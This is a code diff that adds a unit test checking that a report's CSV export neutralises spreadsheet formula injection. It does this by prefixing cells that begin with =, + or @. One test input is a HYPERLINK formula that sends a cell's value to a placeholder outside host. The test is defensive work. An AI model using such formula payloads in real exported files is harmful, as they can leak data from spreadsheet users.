@@ -117,6 +117,25 @@ it('for report viewers, shows no count from 1 to 4 and leaves the coordinators o
   expect(cells.filter((c) => typeof c === 'number' && c % 5 !== 0)).toEqual([]);
 });
 
+it('writes a CSV whose cells never run as formulas in a spreadsheet', () => {
+  const table = {
+    sheet: 'Patches',
+    title: 'Introductions by patch',
+    columns: ['Patch', 'October 2026'],
+    rows: [
+      ['=HYPERLINK("https://example.invalid/?"&A1,"Open")', 3],
+      ['+Harold Hill', 2],
+      ['@SUM(A1:A9)', 1],
+    ],
+  } as unknown as ReturnType<typeof reportTables>[number];
+  const rows = parse(reportCsv([table]), { columns: true }) as Record<string, string>[];
+  expect(rows.map((r) => r.row)).toEqual([
+    `'=HYPERLINK("https://example.invalid/?"&A1,"Open")`,
+    "'+Harold Hill",
+    "'@SUM(A1:A9)",
+  ]);
+});
+
 it('writes a CSV with one row per number', () => {
   const rows = parse(reportCsv(reportTables(report, false)), { columns: true }) as Record<string, string>[];
   expect(rows).toContainEqual({ table: 'Headline', row: 'Introduced', column: 'October 2026', value: '5' });
